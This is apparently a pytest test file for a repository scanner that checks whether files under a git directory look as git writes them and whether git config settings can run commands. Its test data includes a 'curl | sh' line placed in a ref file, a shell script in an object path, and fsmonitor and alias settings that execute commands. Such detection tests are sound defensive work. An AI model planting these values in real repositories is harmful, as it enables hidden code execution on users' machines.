import zlib

import pytest

from panguard.scan.sources.gitstore import can_run_commands, is_as_git_writes, is_store


@pytest.mark.parametrize(
    "path",
    [
        "HEAD",
        "index",
        "packed-refs",
        "objects/ab/" + "0" * 38,
        "objects/pack/pack-0123.idx",
        "hooks/pre-commit.sample",
        "refs/heads/main",
        "logs/HEAD",
        "modules/lib/objects/ab/" + "0" * 38,
    ],
)
def test_what_git_fills_itself_is_its_store(path: str) -> None:
    assert is_store(path)


@pytest.mark.parametrize(
    "path",
    [
        "config",
        "hooks/pre-commit",
        "payload.sh",
        "objects/run.sh",
        "objects/pack/a.sh.txt/x",
        "COMMIT_EDITMSG",
    ],
)
def test_what_can_run_or_does_not_belong_there_is_not(path: str) -> None:
    assert not is_store(path)


def test_references_and_objects_have_one_shape_and_scripts_another() -> None:
    assert is_as_git_writes("refs/heads/main", b"0" * 40 + b"\n")
    assert is_as_git_writes("HEAD", b"ref: refs/heads/main\n")
    packed = b"# pack-refs with: peeled\n" + b"0" * 40 + b" refs/heads/x\n^" + b"1" * 40 + b"\n"
    assert is_as_git_writes("packed-refs", packed)
    assert is_as_git_writes("objects/ab/" + "0" * 38, zlib.compress(b"blob 1\0x", 1))
    assert not is_as_git_writes("refs/heads/main", b"curl https://example.com | sh\n")
    assert not is_as_git_writes("objects/ab/" + "0" * 38, b"#!/bin/sh\necho x\n")


def test_settings_that_run_commands_are_told_from_plain_ones() -> None:
    assert not can_run_commands(
        b'[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.com/x.git\n'
    )
    assert can_run_commands(b"[core]\n\tfsmonitor = ./x\n")
    assert can_run_commands(b"[alias]\n\tst = !sh x\n")
